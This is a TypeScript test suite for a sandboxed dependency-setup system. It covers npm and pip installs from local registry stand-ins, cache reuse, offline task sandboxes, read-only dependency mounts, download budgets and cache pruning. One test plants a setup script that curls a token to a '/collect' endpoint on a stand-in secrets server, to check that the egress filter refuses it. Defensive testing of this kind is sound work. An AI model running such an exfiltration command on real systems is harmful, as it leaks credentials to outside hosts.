/**
 * The setup phase end to end with real installers (npm, pip) against local registry stand-ins:
 * install once in the fenced sandbox, reuse the cache, run the project's tests in a task sandbox
 * that has the dependencies and no network, and fail early and clearly on bad input.
 */
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bwrapAvailable } from '../../sandbox/bwrap-driver';
import { detectCgroups } from '../../sandbox/cgroups';
import { MS_SOURCE, MS_TEST, startBulkServer, startNpmStandIn, startPlainServer, startPypiStandIn, type NpmStandIn, type StandIn } from '../../test/support/registries';
import { attachEntry, CACHE_DIR, pruneCache, readEntry } from './cache';
import { ensureEnvironment, type EnvSetupOptions } from './setup';
import { DOWNLOAD_LIMIT_VAR } from './limits';
import { createTaskEnvironment, EnvironmentSetupError } from './session-setup';
import { createDepsSandbox } from './task-sandbox';

const skip = !bwrapAvailable() || detectCgroups().version === 0;
if (skip) console.warn('[setup tests] skipped: bubblewrap with usable cgroups is needed');

const roots: string[] = [];
function dir(prefix: string): string {
  const d = mkdtempSync(join(tmpdir(), prefix));
  roots.push(d);
  return d;
}
function write(root: string, files: Record<string, string>): string {
  for (const [rel, text] of Object.entries(files)) {
    mkdirSync(dirname(join(root, rel)), { recursive: true });
    writeFileSync(join(root, rel), text);
  }
  return root;
}

describe.skipIf(skip)('setup phase (bwrap)', () => {
  let npm: NpmStandIn;
  let pypi: StandIn;
  let other: StandIn;
  let bulk: Awaited<ReturnType<typeof startBulkServer>>;
  let dataDir: string;
  const lines: string[] = [];
  let base: () => Omit<EnvSetupOptions, 'workspaceDir' | 'projectKey'>;

  beforeAll(async () => {
    npm = await startNpmStandIn([{ name: 'ms', version: '2.1.3', files: { 'index.js': MS_SOURCE } }]);
    pypi = await startPypiStandIn([{ name: 'nsgreet', version: '1.0', files: { 'nsgreet/__init__.py': 'def greet(name):\n    return "hello " + name\n' } }]);
    other = await startPlainServer('internal secrets');
    bulk = await startBulkServer();
    dataDir = dir('ns-env-data-');
    base = () => ({ dataDir, driver: 'bwrap', registries: { urls: { npm: npm.url, pip: pypi.url } }, policyEnv: {}, log: (l) => lines.push(l) });
  });
  afterAll(async () => {
    await npm?.close();
    await pypi?.close();
    await other?.close();
    await bulk?.close();
    for (const r of roots) rmSync(r, { recursive: true, force: true });
  });

  it('installs a JS project once, reuses the cache, and runs its tests offline in a task sandbox', { timeout: 180_000 }, async () => {
    const deps = { ms: '2.1.3' };
    const repo = write(dir('ns-env-js-'), {
      'package.json': JSON.stringify({ name: 'demo', version: '1.0.0', scripts: { test: 'node test.js' }, dependencies: deps }),
      'package-lock.json': npm.lockfile({ name: 'demo', version: '1.0.0', dependencies: deps }),
      'test.js': MS_TEST,
    });
    const first = await ensureEnvironment({ ...base(), projectKey: 'js', workspaceDir: repo });
    expect(first.error).toBeUndefined();
    expect(first).toMatchObject({ status: 'ready', cached: false, command: 'npm ci --no-audit --no-fund', stacks: ['npm'] });
    expect(first.log).toContain(`[egress] allowed 127.0.0.1:${npm.port}`);
    expect(npm.requests).toContain('/ms/-/ms-2.1.3.tgz');
    // The checkout itself is untouched: setup ran on a copy.
    expect(readdirSync(repo).sort()).toEqual(['package-lock.json', 'package.json', 'test.js']);

    const seen = npm.requests.length;
    const second = await ensureEnvironment({ ...base(), projectKey: 'js', workspaceDir: repo });
    expect(second).toMatchObject({ status: 'ready', cached: true, cacheKey: first.cacheKey });
    expect(second.log).toMatch(/from the cache .* no install/);
    expect(npm.requests.length).toBe(seen);

    const sb = await createDepsSandbox({ driver: 'bwrap', workspaceDir: repo, dataDir, entry: second.entry!, timeoutS: 60 });
    await sb.start();
    try {
      const test = await sb.exec(['npm', 'test']);
      expect(test.stdout).toContain('ms tests passed');
      expect(test.exitCode).toBe(0);
      // No network in the task sandbox: npm says so at once, curl reaches nothing.
      const view = await sb.exec(['npm', 'view', 'ms', 'version']);
      expect(view.exitCode).not.toBe(0);
      expect(view.stderr).toMatch(/ENOTCACHED|ENOTFOUND|EAI_AGAIN/);
      const curl = await sb.exec(['sh', '-c', `curl -sS --max-time 5 ${npm.url}ms; echo rc=$?`]);
      expect(curl.stdout).toMatch(/rc=(7|28)/);
      // The cached dependencies are a read-only mount: no write, no chmod back to writable, no new
      // file beside them; the tools' cache folders inside them are the sandbox's own and writable.
      const write1 = await sb.exec(['sh', '-c', 'echo tampered >> node_modules/ms/index.js']);
      expect(write1.exitCode).not.toBe(0);
      // Read-only as a mount, not only by file modes (which the file's owner could change).
      const mounts = await sb.exec(['sh', '-c', 'grep " /workspace/node_modules" /proc/self/mountinfo']);
      const opts = Object.fromEntries(mounts.stdout.trim().split('\n').map((l) => [l.split(' ')[4], l.split(' ')[5].split(',')]));
      expect(opts['/workspace/node_modules']).toContain('ro');
      expect(opts['/workspace/node_modules/.cache']).toContain('rw');
      const chmod = await sb.exec(['sh', '-c', 'chmod u+w node_modules/ms/index.js']);
      expect(chmod.exitCode).not.toBe(0);
      expect((await sb.exec(['sh', '-c', 'touch node_modules/ms/added.js'])).exitCode).not.toBe(0);
      expect((await sb.exec(['sh', '-c', 'mkdir -p node_modules/.cache/babel && touch node_modules/.cache/babel/x && touch node_modules/.vite/results.json'])).exitCode).toBe(0);
      expect(readFileSync(join(second.entry!.dir, 'tree/node_modules/ms/index.js'), 'utf8')).toBe(MS_SOURCE);
      expect(readdirSync(join(second.entry!.dir, 'tree/node_modules/.cache'))).toEqual([]);
      expect(npm.requests.length).toBe(seen);
    } finally {
      await sb.stop();
    }
    // The mount point the sandbox needed is gone again; the cache entry is intact.
    expect(existsSync(join(repo, 'node_modules'))).toBe(false);
    expect(readEntry(dataDir, 'js', first.cacheKey!)).not.toBeNull();
    expect(readdirSync(join(dataDir, 'env-scratch'))).toEqual([]);
  });

  it('a changed lockfile is a new key and a new setup', { timeout: 180_000 }, async () => {
    const repo = write(dir('ns-env-js2-'), {
      'package.json': JSON.stringify({ name: 'demo2', version: '1.0.0', dependencies: {} }),
      'package-lock.json': npm.lockfile({ name: 'demo2', version: '1.0.0', dependencies: {} }),
    });
    const a = await ensureEnvironment({ ...base(), projectKey: 'js2', workspaceDir: repo });
    expect(a.status).toBe('ready');
    const deps = { ms: '2.1.3' };
    write(repo, {
      'package.json': JSON.stringify({ name: 'demo2', version: '1.0.0', dependencies: deps }),
      'package-lock.json': npm.lockfile({ name: 'demo2', version: '1.0.0', dependencies: deps }),
    });
    const b = await ensureEnvironment({ ...base(), projectKey: 'js2', workspaceDir: repo });
    expect(b).toMatchObject({ status: 'ready', cached: false });
    expect(b.cacheKey).not.toBe(a.cacheKey);
    expect(b.entry!.meta.paths).toEqual(['node_modules']);
  });

  it('installs a Python project into a project-local virtualenv from a PEP 503 index', { timeout: 180_000 }, async () => {
    const repo = write(dir('ns-env-py-'), {
      'requirements.txt': 'nsgreet==1.0\n',
      'test_greet.py': 'import unittest\nimport nsgreet\n\nclass T(unittest.TestCase):\n    def test_greet(self):\n        self.assertEqual(nsgreet.greet("x"), "hello x")\n',
    });
    const r = await ensureEnvironment({ ...base(), projectKey: 'py', workspaceDir: repo });
    expect(r.error).toBeUndefined();
    expect(r).toMatchObject({ status: 'ready', stacks: ['pip'] });
    expect(pypi.requests.some((p) => p.endsWith('.whl'))).toBe(true);
    const sb = await createDepsSandbox({ driver: 'bwrap', workspaceDir: repo, dataDir, entry: r.entry!, timeoutS: 60 });
    await sb.start();
    try {
      const t = await sb.exec(['python', '-m', 'unittest', '-v']);
      expect(t.stderr).toContain('OK');
      expect(t.exitCode).toBe(0);
      const pip = await sb.exec(['sh', '-c', 'pip download nsgreet -d /tmp/x 2>&1; echo rc=$?']);
      expect(pip.stdout).toMatch(/rc=[1-9]/);
    } finally {
      await sb.stop();
    }
  });

  it('a lockfile that does not install fails with the installer\'s last lines', { timeout: 180_000 }, async () => {
    // Locked to a release the registry does not have (a typo'd or unpublished version).
    const deps = { ms: '2.1.3' };
    const lock = npm.lockfile({ name: 'bad', version: '1.0.0', dependencies: deps }).replaceAll('2.1.3', '9.9.9');
    const repo = write(dir('ns-env-bad-'), { 'package.json': JSON.stringify({ name: 'bad', version: '1.0.0', dependencies: { ms: '9.9.9' } }), 'package-lock.json': lock });
    const r = await ensureEnvironment({ ...base(), projectKey: 'bad', workspaceDir: repo });
    expect(r.status).toBe('failed');
    expect(r.error).toMatch(/`npm ci --no-audit --no-fund` exited with \d+/);
    expect(r.error).toMatch(/E404|404 Not Found/);
    expect(readEntry(dataDir, 'bad', r.cacheKey!)).toBeNull();
  });

  it('a setup script reaching a non-registry host is refused, and the log names the host', async () => {
    const repo = write(dir('ns-env-exfil-'), { '.nightshift/setup.sh': `curl -fsS http://127.0.0.1:${other.port}/collect?token=x || exit 3\n` });
    const r = await ensureEnvironment({ ...base(), projectKey: 'exfil', workspaceDir: repo });
    expect(r.status).toBe('failed');
    expect(r.error).toContain(`refused non-registry hosts: 127.0.0.1:${other.port}`);
    expect(r.log).toContain(`[egress] REFUSED GET 127.0.0.1:${other.port}`);
    expect(other.requests).toEqual([]);
  });

  it('a setup that exceeds its limits is stopped and says which', async () => {
    const repo = write(dir('ns-env-slow-'), { '.nightshift/setup.sh': 'echo starting; sleep 60\n' });
    const r = await ensureEnvironment({ ...base(), projectKey: 'slow', workspaceDir: repo, limits: { timeoutS: 2 } });
    expect(r.status).toBe('failed');
    expect(r.error).toMatch(/exceeded its 2 s limit/);
    expect(r.error).toContain('starting');
  });

  describe('download budget', () => {
    const MiB = 1024 * 1024;
    const BIG = 256 * MiB;
    // The bulk server stands for a registry that serves a huge file: it is on the allow-list.
    const withBulk = () => ({ ...base(), registries: { ...base().registries, extra: [`127.0.0.1:${bulk.port}`] } });

    it('a download under the limit (NIGHTSHIFT_SETUP_DOWNLOAD_LIMIT) passes', { timeout: 180_000 }, async () => {
      const repo = write(dir('ns-env-small-'), { '.nightshift/setup.sh': `curl -fsS -o part.bin http://127.0.0.1:${bulk.port}/bytes/${512 * 1024}\n` });
      const saved = process.env[DOWNLOAD_LIMIT_VAR];
      process.env[DOWNLOAD_LIMIT_VAR] = '1MiB';
      try {
        const r = await ensureEnvironment({ ...withBulk(), projectKey: 'small', workspaceDir: repo });
        expect(r.error).toBeUndefined();
        expect(r.status).toBe('ready');
        expect(r.log).toContain('limits 600 s, 2048 MiB, 1 MiB through the proxy, at most 128 connections at once');
        expect(r.log).toContain('[egress] 512 KiB through the proxy');
      } finally {
        if (saved === undefined) delete process.env[DOWNLOAD_LIMIT_VAR];
        else process.env[DOWNLOAD_LIMIT_VAR] = saved;
      }
    });

    it('a plain HTTP download over the limit is cut off and the setup fails, keeping nothing', { timeout: 180_000 }, async () => {
      // The script ignores the failed download and exits 0: the setup still fails.
      const repo = write(dir('ns-env-huge-'), { '.nightshift/setup.sh': `echo fetching; curl -sS -o huge.bin http://127.0.0.1:${bulk.port}/bytes/${BIG}; echo curl=$?; exit 0\n` });
      const saved = process.env[DOWNLOAD_LIMIT_VAR];
      process.env[DOWNLOAD_LIMIT_VAR] = '1MiB';
      try {
        const r = await ensureEnvironment({ ...withBulk(), projectKey: 'huge', workspaceDir: repo });
        expect(r.status).toBe('failed');
        expect(r.error).toMatch(/^dependency download exceeded the 1 MiB limit \(NIGHTSHIFT_SETUP_DOWNLOAD_LIMIT\)/);
        expect(r.error).not.toContain('refused non-registry hosts');
        expect(r.log).toContain("[egress] LIMIT: the setup's download budget of 1 MiB is used up");
        expect(readEntry(dataDir, 'huge', r.cacheKey!)).toBeNull();
        expect(readdirSync(join(dataDir, CACHE_DIR, 'huge')).filter((n) => n.startsWith('.staging'))).toEqual([]);
        expect(bulk.sent()).toBeLessThan(BIG);
      } finally {
        if (saved === undefined) delete process.env[DOWNLOAD_LIMIT_VAR];
        else process.env[DOWNLOAD_LIMIT_VAR] = saved;
      }
    });

    it('a CONNECT tunnel over the limit is cut off too, and the task fails with that reason', { timeout: 180_000 }, async () => {
      // curl -p tunnels through CONNECT even for http, as every https download does.
      const repo = write(dir('ns-env-tunnel-'), { '.nightshift/setup.sh': `curl -sS -p -o huge.bin http://127.0.0.1:${bulk.port}/bytes/${BIG}\n` });
      const results: string[] = [];
      const env = createTaskEnvironment({ ...withBulk(), projectKey: 'tunnel', limits: { downloadBytes: 2 * MiB }, onResult: (r) => void results.push(r.status) });
      await env.createSandbox({ workspaceDir: repo, timeoutS: 60 });
      const err = await env.setup({ workspaceDir: repo }).then(() => null, (e: unknown) => e);
      expect(err).toBeInstanceOf(EnvironmentSetupError);
      expect((err as Error).message).toMatch(/^dependency setup failed: dependency download exceeded the 2 MiB limit \(NIGHTSHIFT_SETUP_DOWNLOAD_LIMIT\)/);
      expect(results).toEqual(['failed']);
      expect(env.steps()[0]).toMatchObject({ status: 'failed', error: expect.stringMatching(/^dependency download exceeded the 2 MiB limit/) });
      expect(env.results[0].log).toMatch(/\[egress\] allowed 127\.0\.0\.1:\d+ \(1 connection\)/);
      expect(readEntry(dataDir, 'tunnel', env.results[0].cacheKey!)).toBeNull();
    });

    it('a bad NIGHTSHIFT_SETUP_DOWNLOAD_LIMIT fails the setup naming the variable', async () => {
      const repo = write(dir('ns-env-badlimit-'), { '.nightshift/setup.sh': 'true\n' });
      const saved = process.env[DOWNLOAD_LIMIT_VAR];
      process.env[DOWNLOAD_LIMIT_VAR] = 'lots';
      try {
        const r = await ensureEnvironment({ ...withBulk(), projectKey: 'badlimit', workspaceDir: repo });
        expect(r.status).toBe('failed');
        expect(r.error).toBe('setup could not run: NIGHTSHIFT_SETUP_DOWNLOAD_LIMIT: "lots" is not a size (e.g. 2GiB, 500MiB, 1048576, or off)');
      } finally {
        if (saved === undefined) delete process.env[DOWNLOAD_LIMIT_VAR];
        else process.env[DOWNLOAD_LIMIT_VAR] = saved;
      }
    });
  });

  it('a repository with no recognisable stack needs no setup', async () => {
    const repo = write(dir('ns-env-none-'), { 'main.c': 'int main(void) { return 0; }\n' });
    const r = await ensureEnvironment({ ...base(), projectKey: 'none', workspaceDir: repo });
    expect(r).toMatchObject({ status: 'none', command: null, cacheKey: null });
    expect(r.log).toMatch(/no recognisable stack/);
  });

  it('prunes entries unused for too long, then the oldest beyond the size budget', () => {
    const entries = readdirSync(join(dataDir, CACHE_DIR)).flatMap((p) => readdirSync(join(dataDir, CACHE_DIR, p)).filter((k) => !k.startsWith('.')).map((k) => join(dataDir, CACHE_DIR, p, k)));
    expect(entries.length).toBeGreaterThanOrEqual(4);
    const old = new Date(Date.now() - 30 * 24 * 3600_000);
    utimesSync(join(entries[0], 'meta.json'), old, old);
    const r1 = pruneCache(dataDir, { maxAgeMs: 7 * 24 * 3600_000 });
    expect(r1.removed).toEqual([entries[0]]);
    // An entry a running sandbox uses is leased: pruning leaves it until the sandbox is gone.
    const leased = entries[2];
    const meta = JSON.parse(readFileSync(join(leased, 'meta.json'), 'utf8')) as { projectKey: string; key: string };
    const attachment = attachEntry(dataDir, readEntry(dataDir, meta.projectKey, meta.key)!);
    const r2 = pruneCache(dataDir, { maxBytes: 0, keep: [entries[1]] });
    expect(r2.removed.sort()).toEqual(entries.slice(3).sort());
    expect(existsSync(entries[1])).toBe(true);
    expect(existsSync(leased)).toBe(true);
    attachment.dispose();
    expect(pruneCache(dataDir, { maxBytes: 0, keep: [entries[1]] }).removed).toEqual([leased]);
  });
});
